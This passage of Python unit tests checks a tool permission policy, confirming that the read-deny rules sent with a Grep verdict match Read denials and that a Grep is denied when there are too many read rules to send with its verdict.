    """S-POL-2: the read rules an allowed Grep carries hide exactly the paths a Read of them
    is denied for, rule order, ceiling and literal ("allow always") rules included."""
    policy = ToolPolicy(
        rules=(*rules_from_config(config), PermissionRule("read", "/p/?", "allow", literal=True)),
        mode="default",
        project_dir="/p",
        ceiling=None if ceiling is None else rules_from_config(ceiling),
    )
    verdict = PermissionVerdict(allowed=True, read_rules=policy.search_read_rules("Grep"))
    for path in _PATHS:
        denied = policy.check("Read", {"file_path": path}).action == "deny"
        assert verdict.hides(path) is denied, (path, verdict)
    assert policy.search_read_rules("Read") == ()


def test_s_pol_2_a_search_past_the_verdicts_read_rules_is_denied() -> None:
    """S-POL-2: read rules too many to send with a verdict deny the search, saying what to do
    (never a search that would skip nothing); a Read is still decided by them."""
    rules = tuple(PermissionRule("read", f"/p/{n}", "deny") for n in range(MAX_READ_RULES + 1))
    policy = ToolPolicy(
        rules=(PermissionRule("*", "*", "allow"), *rules), mode="default", project_dir="/p"
    )
    decision = policy.check("Grep", {"pattern": "x"})
    assert decision.action == "deny" and "merge those read rules" in decision.reason
    assert policy.check("Read", {"file_path": "/p/ok"}).action == "allow"
